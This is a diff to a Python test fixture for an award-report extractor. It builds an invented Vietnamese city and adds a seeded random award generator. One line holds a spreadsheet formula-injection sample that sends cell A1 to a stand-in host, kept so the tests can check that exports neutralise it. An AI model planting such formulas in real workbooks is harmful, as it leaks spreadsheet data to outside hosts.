@@ -1,12 +1,16 @@
 """A small invented city with one of everything that outputs must show right."""
 
 from dataclasses import dataclass
+from random import Random
+from typing import get_args
 
 from rows import award, extraction, finding, person, report
 
 from extractor.consolidate import City, consolidate
-from extractor.record import Extraction, Report
+from extractor.record import Award, Extraction, Grade, Level, Qualifier, RecipientKind, Report, Status
 from extractor.run import achievement_codes
+from extractor.words.rulebook import AwardRule
+from extractor.words.rulebook import awards as catalogue
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"xem")'  # what no workbook may run, out of a report's text
 
@@ -30,6 +34,38 @@ PROVINCE = "Thành phố Sông Mây"
 def city() -> City:
     """Four units: one with nearly everything, one that sent a newer report, one with an empty report, one missing."""
     return consolidate([full(), *newer_and_older(), empty(), homeless(), unread()], UNITS, "vi", achievement_codes())
+
+
+def random_city(seed: int) -> City:
+    """Every award of the catalogue, from every level, to every kind of recipient, in reports of all units but one."""
+    chance = Random(seed)
+    reports = (_random_report(chance, f"z{at}", unit) for at, unit in enumerate(UNITS[:3]))
+    return consolidate(reports, UNITS, "vi", achievement_codes())
+
+
+def _random_report(chance: Random, report_id: str, unit: Unit) -> Extraction:
+    rules = chance.sample(list(catalogue().values()), k=60) * 4
+    return extraction(
+        sent(report_id, unit), *(_random_award(chance, f"{report_id}-{at}", rule, at) for at, rule in enumerate(rules))
+    )
+
+
+def _random_award(chance: Random, record_id: str, rule: AwardRule, at: int) -> Award:
+    named = chance.random() < 0.4
+    return award(
+        record_id,
+        award_code=rule.code,
+        award_name=rule.name,
+        scope="named" if named else "aggregate",
+        recipient_name=f"Tập thể {at}" if named else "",
+        recipient_kind=chance.choice(get_args(RecipientKind)),
+        authority_level=chance.choice(get_args(Level)),
+        grade=chance.choice(get_args(Grade)),
+        status=chance.choices(get_args(Status), weights=(8, 1, 1, 1))[0],
+        count=chance.choice((None, 0, 1, 7, 1200)),
+        count_qualifier=chance.choice(get_args(Qualifier)),
+        char_start=10 * at,
+    )
 
 
 def sent(report_id: str, unit: Unit, **columns: object) -> Report:
@@ -131,3 +167,5 @@ GIAY_KHEN = {"award_code": "GIAY_KHEN", "award_name": "Giấy khen"}
 VAN_HOA = {"award_code": "GIA_DINH_VAN_HOA", "award_name": "Gia đình văn hóa"}
 LAO_DONG = {"award_code": "HUAN_CHUONG_LAO_DONG", "award_name": "Huân chương Lao động"}
 CO_SO = {"award_code": "CHIEN_SI_THI_DUA_CO_SO", "award_name": "Chiến sĩ thi đua cơ sở"}
+
+CITY, RANDOM = city(), random_city(seed=5)
